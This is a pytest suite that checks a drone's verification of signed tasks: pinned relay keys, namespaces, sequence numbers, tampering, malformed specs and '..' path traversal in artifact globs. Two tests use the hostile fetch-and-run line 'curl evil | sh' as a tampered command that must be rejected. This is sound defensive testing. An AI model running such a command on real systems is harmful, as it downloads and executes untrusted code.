"""Task verification: every reject reason of PROTOCOL.md, with keys made in the test."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from dragoon.drone.verify import SignedTask, parse_spec, parse_task, verify_task
from dragoon.shared import sshsig, task_auth
from dragoon.shared.canonical import canonical_task, spec_sha256
from dragoon.shared.constants import NS_REQUEST, NS_TASK
from dragoon.shared.keys import PrivateKey
from dragoon.shared.signers import KeyFileSigner

SPEC: dict[str, Any] = {"command": "echo hi", "env": {}, "cwd": None, "timeout": None,
                        "grace": 10, "artifacts": [], "name": None}


@pytest.fixture(scope="module")
def relay_signer() -> KeyFileSigner:
    return KeyFileSigner(PrivateKey.generate_ed25519())


def signed(signer: KeyFileSigner, *, task_id: str = "t-abc", drone: str = "gpu-1", seq: int = 5,
           spec: dict[str, Any] | None = None, namespace: str = NS_TASK,
           with_hash: bool = False) -> dict[str, Any]:
    spec = dict(SPEC if spec is None else spec)
    message = canonical_task(task_id=task_id, drone=drone, seq=seq, spec=spec)
    task = {"id": task_id, "drone": drone, "seq": seq, "spec": spec,
            "signature": base64.b64encode(signer.sign(namespace, message)).decode()}
    if with_hash:
        task["spec_sha256"] = spec_sha256(spec)
    return task


def check(task: dict[str, Any], signer: KeyFileSigner, *, last_seq: int = 4,
          name: str = "gpu-1") -> str | None:
    parsed = parse_task(task)
    assert isinstance(parsed, SignedTask)
    return verify_task(parsed, relay_key=signer.public_key, drone_name=name, last_seq=last_seq)


def test_a_task_signed_by_the_pinned_key_for_this_drone_is_accepted(relay_signer):
    assert check(signed(relay_signer), relay_signer) is None
    assert check(signed(relay_signer, with_hash=True), relay_signer) is None


def test_a_task_signed_by_another_key_is_rejected(relay_signer):
    intruder = KeyFileSigner(PrivateKey.generate_ed25519())
    reason = check(signed(intruder), relay_signer)
    assert reason is not None and "pinned relay key" in reason


def test_a_signature_in_another_namespace_is_rejected(relay_signer):
    reason = check(signed(relay_signer, namespace=NS_REQUEST), relay_signer)
    assert reason is not None and "namespace" in reason


def test_a_task_for_another_drone_is_rejected(relay_signer):
    reason = check(signed(relay_signer, drone="gpu-2"), relay_signer)
    assert reason == "task is for drone 'gpu-2', not 'gpu-1'"


@pytest.mark.parametrize("seq", [4, 3, 0])
def test_a_sequence_not_above_the_last_accepted_is_rejected(relay_signer, seq):
    reason = check(signed(relay_signer, seq=seq), relay_signer, last_seq=4)
    assert reason == f"sequence {seq} is not above 4"


def test_a_tampered_spec_breaks_the_signature(relay_signer):
    task = signed(relay_signer)
    task["spec"] = {**task["spec"], "command": "curl evil | sh"}
    reason = check(task, relay_signer)
    assert reason is not None and "does not verify" in reason


def test_a_tampered_spec_beside_its_signed_hash_is_named(relay_signer):
    task = signed(relay_signer, with_hash=True)
    task["spec"] = {**task["spec"], "command": "curl evil | sh"}
    reason = check(task, relay_signer)
    assert reason is not None and reason.startswith("spec hashes to")


def test_a_tampered_task_id_breaks_the_signature(relay_signer):
    task = signed(relay_signer)
    task["id"] = "t-other"
    assert "does not verify" in (check(task, relay_signer) or "")


@pytest.mark.parametrize("field,value,expected", [
    ("id", None, "task has no id"),
    ("seq", "5", "task has no valid sequence number"),
    ("seq", True, "task has no valid sequence number"),
    ("spec", "echo", "task has no spec object"),
    ("signature", "", "task is not signed"),
])
def test_malformed_tasks_are_named(relay_signer, field, value, expected):
    task = signed(relay_signer)
    task[field] = value
    assert parse_task(task) == expected


def test_garbage_signature_is_rejected_not_raised(relay_signer):
    task = signed(relay_signer)
    task["signature"] = "not base64 !!!"
    assert "does not verify" in (check(task, relay_signer) or "")


def test_spec_parsing_types_the_fields():
    spec = parse_spec({**SPEC, "env": {"A": "1"}, "timeout": 30, "artifacts": ["out/**"]})
    assert not isinstance(spec, str)
    assert spec.timeout == 30.0 and spec.env == {"A": "1"} and spec.artifacts == ("out/**",)


@pytest.mark.parametrize("patch,reason", [
    ({"command": ""}, "command: is empty"),
    ({"env": {"A=B": "1"}}, "env: 'A=B' is not a variable name (1-256 of A-Z a-z 0-9 _, "
                            "not starting with a digit)"),
    ({"timeout": -1}, "timeout: must be more than zero"),
    ({"artifacts": "x"}, "artifacts: must be a list of glob patterns"),
    ({"timeout": 1.5}, "timeout: must be whole seconds (an integer) or null"),
    ({"artifacts": ["../up"]}, "artifacts: '../up' holds '..'; patterns stay inside the "
                               "work dir"),
    ({"surprise": 1}, "spec: unknown field 'surprise'"),
])
def test_bad_specs_are_refused_with_the_reason(patch, reason):
    assert parse_spec({**SPEC, **patch}) == reason


def test_signature_check_uses_sshsig_wire_format(relay_signer):
    task = signed(relay_signer)
    blob = sshsig.decode_b64(task["signature"])
    assert sshsig.parse(blob).namespace == NS_TASK


def test_a_stale_sequence_is_checked_after_shared_checks_the_signature(relay_signer):
    intruder = KeyFileSigner(PrivateKey.generate_ed25519())
    reason = check(signed(intruder, seq=1), relay_signer, last_seq=4)
    assert reason is not None and "pinned relay key" in reason
    assert check(signed(relay_signer, drone="gpu-2", seq=1), relay_signer) == (
        "task is for drone 'gpu-2', not 'gpu-1'")


def test_the_sequence_bound_is_strict_and_the_drone_s_own(relay_signer):
    assert check(signed(relay_signer, seq=5), relay_signer, last_seq=4) is None
    assert check(signed(relay_signer, seq=5), relay_signer, last_seq=5) == (
        "sequence 5 is not above 5")
    assert check(signed(relay_signer, seq=0), relay_signer, last_seq=-1) is None


def test_a_line_break_in_the_task_id_is_a_reason_not_a_crash(relay_signer):
    task = signed(relay_signer)
    task["id"] = "t-abc\n5"
    reason = check(task, relay_signer)
    assert reason is not None and reason.startswith("task cannot be checked as sent")


def test_a_spec_without_canonical_json_is_a_reason_not_a_crash(relay_signer):
    task = signed(relay_signer)
    task["spec"] = {**task["spec"], "timeout": float("nan")}
    assert check(task, relay_signer) == "spec cannot be put in canonical JSON"


def test_parse_task_gives_the_shared_envelope_type(relay_signer):
    assert SignedTask is task_auth.SignedTask
    assert parse_task("not an object") == "task is not a JSON object"
